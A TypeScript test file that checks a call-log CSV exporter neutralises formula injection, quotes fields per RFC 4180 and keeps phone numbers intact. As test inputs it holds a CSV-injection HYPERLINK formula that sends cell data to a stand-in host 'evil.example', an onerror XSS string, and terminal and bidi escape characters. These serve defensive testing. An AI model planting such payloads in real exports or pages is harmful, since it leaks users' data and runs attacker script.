import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { callCsv, callCsvHead } from '../../src/privacy/call-csv.ts';
import { summaryCsv } from '../../src/terminal/summary-text.ts';
import { csvLine, csvNumber } from '../../src/text/csv-lines.ts';
import { sampleArrival, sampleFacts, sampleOutcome } from '../fakes/sample-outcome.ts';
import { scannedSummary as summary } from '../fakes/scanned-summary.ts';

const whole = { show: (number: string) => number, text: (text: string) => text };
const cells = (line: string): string[] => parse(line)[0] ?? [];

test('a cell that begins like a formula is text', () => {
  for (const sign of ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'])
    expect(cells(csvLine([`${sign}HYPERLINK("http://x","y")`]))[0]).toMatch(/^'/);
  for (const before of [' ', '"', "'", '\u200b', '\u202e', '\n'])
    expect(cells(csvLine([`${before}=1+1`]))[0]).toMatch(/^'/);
  expect(csvLine(['=1+1'])).toBe("'=1+1\r\n");
  expect(csvLine(['a=b', '1-2', 'x@y', -5, true, null])).toBe('a=b,1-2,x@y,-5,true,\r\n');
});

test('nor does a formula begin behind a semicolon, where spreadsheets part cells', () => {
  expect(csvLine(['x;=1+1;y; "@a;b'])).toBe(`"x;'=1+1;y;' ""@a;b"\r\n`);
  expect(csvLine(['a;b;-5'])).toBe("a;b;'-5\r\n");
});

test('a phone number is neither computed nor rounded, and is read back whole', () => {
  expect(csvLine([csvNumber('+13175550123'), csvNumber(null)])).toBe('tel:+13175550123,\r\n');
  expect(csvLine([csvNumber('=1+1')])).toBe("'=1+1\r\n");
  expect(csvNumber('3175550123')).toBe('3175550123');
});

test('quotes, commas and blanks as RFC 4180 has them; a record is one line', () => {
  expect(csvLine(['a,b', 'say "hi"', ' x '])).toBe('"a,b","say ""hi"""," x "\r\n');
  expect(csvLine(['two\r\nlines\u001b[31m\u009b\u202e'])).toBe('two��lines�[31m��\r\n');
});

test('whatever the texts are: as many cells as were put in, and none a spreadsheet would run', () => {
  const text = fc.string({ unit: 'binary' });
  fc.assert(
    fc.property(fc.array(text, { minLength: 2, maxLength: 6 }), (texts) => {
      const line = csvLine(texts);
      expect(line.indexOf('\r\n')).toBe(line.length - 2);
      const read = cells(line);
      expect(read).toHaveLength(texts.length);
      for (const cell of [...read, ...line.split(';')]) expect(cell).not.toMatch(/^[\s"]*[=+\-@\t\r]/);
    }),
  );
});

test('a hostile caller in the list of calls', () => {
  const displayName = '=HYPERLINK("http://evil.example/?"&A1,"Click")\u202e\u001b[31m';
  const raw = '+1317<img src=x onerror=alert(1)>';
  const caller = { number: null, reason: 'malformed', raw, displayName } as const;
  const outcome = sampleOutcome('n1/1', { facts: sampleFacts('n1/1', { caller }) });
  const line = csvLine(
    callCsv({ outcome, afterExit: { answeredMs: 5000, talkMs: 61_000, cause: 16 } }, whole),
  );
  const [read] = parse<Record<string, string>>(csvLine(callCsvHead) + line, { columns: true });
  expect(read).toMatchObject({
    time: '2026-03-02T09:30:00.000Z',
    call: 'n1/1',
    caller: '',
    caller_reason: 'malformed',
    display_name: `'=HYPERLINK("http://evil.example/?"&A1,"Click")��[31m`,
    called: 'tel:+13175550000',
    where: 'connected',
    answered_ms: '5000',
    talk_ms: '61000',
    cause: '16',
  });
});

test('the summary as one table', async () => {
  const outcomes = [sampleOutcome('n1/1'), sampleOutcome('n1/2', { decision: null })];
  const source = {
    async *between() {
      yield* outcomes;
    },
  };
  const found = await summary(source, { since: sampleArrival, until: sampleArrival + 3_600_000 });
  const rows = parse<Record<string, string>>(summaryCsv(found), { columns: true, relax_column_count: true });
  expect(rows.map(({ by, value, calls }) => [by, value, calls])).toEqual([
    ['all', '', '2'],
    ['rule', 'everyone-else', '1'],
    ['rule', '', '1'],
    ['called', 'tel:+13175550000', '2'],
    ['hour', '2026-03-02T09:00:00.000Z', '2'],
  ]);
});
